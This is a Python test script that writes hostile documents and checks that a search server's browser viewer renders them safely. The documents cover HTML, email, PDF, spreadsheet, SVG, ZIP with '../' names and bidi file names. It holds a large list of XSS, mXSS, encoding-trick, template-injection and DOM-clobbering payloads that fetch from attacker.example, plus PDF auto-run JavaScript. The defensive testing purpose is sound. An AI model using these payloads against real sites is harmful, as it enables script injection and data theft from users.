"""Shows hostile documents in a browser behind a proxy that records everything: no script may run, nothing may be loaded.

    hostile.py write FOLDER             writes the documents
    hostile.py show ADDRESS COUNT STEP  shows them, which a server has indexed, at the address of `ken web --print`: those
                                        that contain all attacks, and every STEPth of the others

All documents contain the word "melon". What their scripts and links would load is on the host attacker.example, and
their scripts would change the title of the page.
"""

import email.policy
import http.client
import http.server
import io
import json
import os
import re
import sys
import threading
import urllib.parse
import zipfile
from email.message import EmailMessage
from xml.sax.saxutils import escape, quoteattr

from browser import Browser, Driver

# What Chromium itself asks, whatever it shows.
CHROMIUM = (".googleapis.com", ".google.com", ".gvt1.com")

# Documents with all attacks.
WHOLE = ("all.", "image.", "utf-", "bidi ")

# U is an address of the attacker, J a script that asks it.
PAYLOADS = r"""
<script>J</script>
<img src=U>
<img src=x onerror="J">
<svg onload="J"></svg>
<svg><script>J</script></svg>
<svg><image href=U /><use href="U#a"/><feImage href=U /></svg>
<svg><animate onbegin="J" attributeName=x dur=1s></svg>
<svg><a><text>melon</text><set attributeName=href to="javascript:J"/></a></svg>
<math href="javascript:J">melon</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=J&gt;">
<noscript><p title="</noscript><img src=x onerror=J>">
<iframe src="javascript:J"></iframe>
<iframe src=U></iframe>
<iframe srcdoc="<script>J</script><img src=U>"></iframe>
<object data=U></object><embed src=U>
<video src=U poster=U autoplay></video><audio src=U autoplay></audio>
<picture><source srcset=U><img srcset="U 2x"></picture>
<input type=image src=U><input autofocus onfocus="J">
<link rel=stylesheet href=U><link rel=prefetch href=U><link rel=icon href=U><link rel=dns-prefetch href=U>
<style>@import url(U); body { background: url(U) } @font-face { font-family: a; src: url(U) }</style>
<div style="background: url(U); font-family: a">melon</div>
<table background=U><td background=U>melon</table>
<meta http-equiv=refresh content="0;url=U">
<meta http-equiv="Content-Security-Policy" content="script-src *; default-src * 'unsafe-inline'">
<base href=U>
<form action=U><button autofocus>melon</button></form><script>document.forms[0].submit()</script>
<details open ontoggle="J">melon</details>
<body onload="J" background=U>
<a href="javascript:J">melon</a>
<a href="jav&#x09;ascript:J">melon</a>
<a href=" &#1; javascript:J">melon</a>
<a href="data:text/html,<script>J</script>">melon</a>
<a href="vbscript:J">melon</a>
<a href="x" ping=U>melon</a>
<x onclick="J" onmouseover="J" style="position:fixed;inset:0">melon</x>
"><script>J</script>
'><img src=x onerror='J'>
</title><script>J</script>
</textarea><script>J</script>
</script><script>J</script>
</style><img src=U>
--><script>J</script>
<!--><img src=x onerror=J>-->
<![CDATA[><script>J</script>]]>
<?xml-stylesheet href=U?>
<scr\0ipt>J</scr\0ipt><IMG SRC=x OnErRoR=J>
+ADw-script+AD4-J+ADw-/script+AD4-
%3Cscript%3EJ%3C/script%3E &lt;script&gt;J&lt;/script&gt;
{{ 7*7 }} {% include "layout.html" %} ${7*7} javascript:J
<template><script>J</script></template><slot onslotchange=J>
<portal src=U></portal><frameset onload="J"><frame src=U></frameset>
<marquee onstart="J">melon</marquee><keygen autofocus onfocus="J">
<p id=app name=q><a id=q name=results href=U>melon</a><img name=getElementById>
""".strip().split("\n")


def payloads(where):
    for number, payload in enumerate(PAYLOADS):
        address = f"http://attacker.example/{where}/{number}"
        script = f"document.title='PWNED';fetch('{address}')"
        yield payload.replace("U", address, 99).replace("J", script) if "U" in payload or "J" in payload else payload


def pdf(title, text):
    def quoted(value):
        return "(" + value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"

    stream = f"BT /F1 12 Tf 20 700 Td {quoted(text)} Tj ET"
    objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>"
        "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]>>",
        f"<</Length {len(stream)}>>stream\n{stream}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        f"<</Title {quoted(title)}/Author {quoted(title)}>>",
    ]
    out, places = "%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj{one}endobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(f"{at:010} 00000 n \n" for at in places)
    out += f"trailer<</Root 1 0 R/Info 6 0 R/Size {len(objects) + 1}>>\nstartxref\n{start}\n%%EOF"
    return out.encode("latin-1")


def message(payload, number):
    mail = EmailMessage(policy=email.policy.SMTP.clone(refold_source="none"))
    flat = payload.replace("\0", "")
    mail["Subject"] = f"melon {flat}"
    mail["From"] = f'"{flat.replace(chr(34), chr(39)).replace(chr(92), "")}" <a@attacker.example>'
    mail["To"] = "anna@example.org"
    mail["Message-ID"] = f"<{number}@attacker.example>"
    # All are one thread.
    mail["References"] = "<0@attacker.example>"
    mail["Date"] = "Mon, 05 Jan 2026 10:00:00 +0000"
    mail.set_content(f"melon {flat}")
    mail.add_alternative(f"<p>melon</p>{flat}<p>more melon</p>", subtype="html")
    name = flat.replace("/", "\\")
    mail.add_attachment(f"melon {flat}".encode(), maintype="text", subtype="html", filename=name)
    return mail.as_bytes()


def workbook(names):
    """Returns a spreadsheet with sheets of these names, and with the names in their cells."""
    types = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    sheets = relations = ""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for number, name in enumerate(names, 1):
            part = f"worksheets/sheet{number}.xml"
            sheets += f"<sheet name={quoteattr(name)} sheetId='{number}' r:id='r{number}'/>"
            relations += f"<Relationship Id='r{number}' Type='{office}/worksheet' Target='{part}'/>"
            types += f"<Override PartName='/xl/{part}' ContentType='{kind}.worksheet+xml'/>"
            cells = "".join(f"<c t='inlineStr'><is><t>{escape(text)}</t></is></c>" for text in ("melon", name, name))
            rows = f"<row>{cells}</row>" * 3
            archive.writestr(f"xl/{part}", f"<worksheet xmlns='{main}'><sheetData>{rows}</sheetData></worksheet>")
        types += f"<Override PartName='/xl/workbook.xml' ContentType='{kind}.sheet.main+xml'/>"
        archive.writestr("[Content_Types].xml", f"<Types xmlns='{package}/content-types'>{types}</Types>")
        start = f"<Relationship Id='r1' Type='{office}/officeDocument' Target='xl/workbook.xml'/>"
        book = f"<workbook xmlns='{main}' xmlns:r='{office}'><sheets>{sheets}</sheets></workbook>"
        archive.writestr("_rels/.rels", f"<Relationships xmlns='{package}/relationships'>{start}</Relationships>")
        archive.writestr("xl/workbook.xml", book)
        rels = f"<Relationships xmlns='{package}/relationships'>{relations}</Relationships>"
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
    return packed.getvalue()


def write(folder):
    os.makedirs(folder, exist_ok=True)

    def put(name, content):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(content if isinstance(content, bytes) else content.encode())

    page = "<!doctype html><title>melon {0}</title><meta name=author content='{0}'><h1>melon</h1>{0}<p>melon"
    xml = "<?xml version='1.0'?>"
    for number, payload in enumerate(payloads("html")):
        put(f"{number}.html", page.format(payload))
    for number, payload in enumerate(payloads("text")):
        put(f"{number}.txt", f"melon {payload}\n")
        # A name holds no slash, and 255 bytes.
        name = f"melon {payload}".replace("/", "\u2215").replace("\0", "")
        while len(name.encode()) > 250:
            name = name[:-1]
        put(name, f"melon {number}")
    for number, payload in enumerate(payloads("mail")):
        put(f"{number}.eml", message(payload, number))
    for number, payload in enumerate(payloads("pdf")):
        put(f"{number}.pdf", pdf(f"melon {payload}", f"melon {payload}"))
    everything = "".join(payloads("whole"))
    put("all.svg", f"<svg xmlns='http://www.w3.org/2000/svg'><text>melon</text>{everything}</svg>")
    put("all.xhtml", f"{xml}<html xmlns='http://www.w3.org/1999/xhtml'><body>melon {everything}</body></html>")
    put("all.md", f"# melon {everything}\n")
    put("all.csv", f'melon,"{everything}"\n=HYPERLINK("http://attacker.example/csv"),melon\n')
    put("all.js", f"/* melon */ {everything}")
    put("image.png", f"<html>melon {everything}")
    put("utf-16.html", page.format(everything).encode("utf-16"))
    put("utf-7.html", page.format(everything).encode("utf-7", "replace"))
    put("bidi \u202etxt.exe.txt", "melon \u202e\u2066reversed\u200b\u2028line\u2029paragraph \x1b]0;title\x07 \x9b31m")
    put("all.xlsx", workbook(payload.replace("\0", "") for payload in payloads("sheet")))
    for name in ("all.c", "all.py", "all.rs", "all.php", "all.css", "all.sql", "all.yaml"):
        put(name, f"melon /* {everything}\n" + "".join(f"melon {payload}\n" for payload in payloads(name)))
    put("all.log", f"melon {everything} " * 200)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for number, payload in enumerate(payloads("zip")):
            archive.writestr(f"../{payload}.txt", f"melon {number}")
    put("names.zip", packed.getvalue())


class Proxy:
    """A proxy that hands requests on to one server, and records all others."""

    def __init__(self, upstream):
        self.seen = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                target = urllib.parse.urlsplit(self.path)
                if target.netloc != upstream:
                    seen.append(self.path)
                    self.send_response(204)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                connection = http.client.HTTPConnection(upstream, timeout=60)
                headers = {name: value for name, value in self.headers.items() if not name.startswith("Proxy-")}
                path = urllib.parse.urlunsplit(("", "", target.path, target.query, ""))
                connection.request(self.command, path, body, headers)
                answer = connection.getresponse()
                content = answer.read()
                self.send_response(answer.status)
                for name, value in answer.getheaders():
                    if name.lower() not in ("content-length", "transfer-encoding", "connection"):
                        self.send_header(name, value)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)
                connection.close()

            do_POST = do_HEAD = do_GET

            def do_CONNECT(self):
                seen.append(self.path)
                self.send_error(502)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.port = self.server.server_address[1]


def show(address, n_expected, step):
    host = urllib.parse.urlsplit(address).netloc
    folder = address.split("#")[0]
    proxy = Proxy(host)
    driver = Driver()
    # Loopback goes through the proxy, too.
    arguments = [
        f"--proxy-server=http://127.0.0.1:{proxy.port}",
        "--proxy-bypass-list=<-loopback>",
        "--disable-features=AutofillServerCommunication,OptimizationHints",
    ]
    browser = Browser(driver, arguments=arguments)
    try:
        own = harmless(browser, proxy)
        browser.open(address)
        browser.until("the page is there", lambda: browser.all("#q"))
        # Before the token was there, the answer was 401.
        browser.log()
        identifiers = found(browser, folder)
        assert len(identifiers) >= n_expected, f"{len(identifiers)} of {n_expected} documents are found"
        for view in ["", "&view=table"]:
            browser.open(f"{folder}?q=melon{view}")
            browser.until("results are there", lambda: "PWNED" not in browser.run("return document.title"))
            check(browser, proxy, own, f"results {view}")
        shown = [one for place, (one, name) in enumerate(identifiers) if place % step == 0 or name.startswith(WHOLE)]
        for identifier in shown:
            open_document(browser, folder, identifier)
            check(browser, proxy, own, identifier)
        print(f"{len(shown)} documents shown, {len(PAYLOADS)} payloads, nothing ran and nothing was loaded")
    finally:
        browser.close()
        driver.close()


def harmless(browser, proxy):
    """Makes sure that a script that runs and a picture that loads are noticed, and returns what Chromium itself asks."""
    browser.open("about:blank")
    own = {(urllib.parse.urlsplit(seen).netloc or seen).split(":")[0] for seen in proxy.seen}
    page = next(payload for payload in payloads("control"))
    picture = "<img src=http://attacker.example/control/picture>"
    browser.open("data:text/html," + urllib.parse.quote(page + picture))
    browser.until("the script is noticed", lambda: browser.run("return document.title") == "PWNED")
    browser.until("the picture is noticed", lambda: any("control/picture" in seen for seen in proxy.seen))
    assert "attacker.example" not in own
    browser.log()
    proxy.seen.clear()
    return own


def found(browser, folder):
    """Returns the identifiers and names of all documents with the word, as the API says."""
    script = """
        const done = arguments[arguments.length - 1];
        fetch(arguments[0]).then(answer => answer.json()).then(done, error => done(String(error)));
    """
    answer = browser.run_async(script, f"{folder}api/v1/search?q=melon&limit=5000&n_snippets=0&deadline_ms=60000")
    assert isinstance(answer, dict), answer
    return [(hit["id"], hit["path"].rsplit("/", 1)[1]) for hit in answer["hits"]]


def open_document(browser, folder, identifier):
    browser.open(f"{folder}document?doc={identifier}&q=melon")
    # What a curious reader does: looks at everything, also as it was written. No link may lead to a script.
    frames = browser.run("""
        for (const part of document.querySelectorAll('details')) part.open = true;
        for (const link of document.querySelectorAll('main a[href]')) {
            const scheme = new URL(link.href).protocol;
            if (!['http:', 'https:', 'mailto:'].includes(scheme)) document.title = 'PWNED by ' + scheme;
        }
        const frames = [...document.querySelectorAll('iframe')];
        for (const frame of frames) { frame.loading = 'eager'; frame.scrollIntoView(); }
        return frames.map(frame => frame.srcdoc);
    """)
    for text in frames:
        # Frames without scripts cannot be asked, so their links are read from the text.
        for start in re.findall(r"""(?:href|src)\s*=\s*["']?\s*([^"'\s>]*)""", text, re.IGNORECASE):
            assert re.match(r"(https?|mailto):", start), f"a frame links to {start}"


def check(browser, proxy, own, what):
    title = browser.run("return document.title")
    assert not title.startswith("PWNED"), f"a script ran: {what}: {title}"
    hosts = {seen: (urllib.parse.urlsplit(seen).netloc or seen).split(":")[0] for seen in list(proxy.seen)}
    loaded = [seen for seen, host in hosts.items() if host not in own and not host.endswith(CHROMIUM)]
    assert not loaded, f"{what} loads {loaded[:5]}"
    entries = [entry for entry in browser.log() if "favicon" not in entry["message"]]
    assert not entries, f"{what}: {json.dumps(entries[:3], indent=1)}"


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["write", folder]:
            write(folder)
        case ["show", address, count, step]:
            show(address, int(count), int(step))
        case _:
            sys.exit(__doc__)
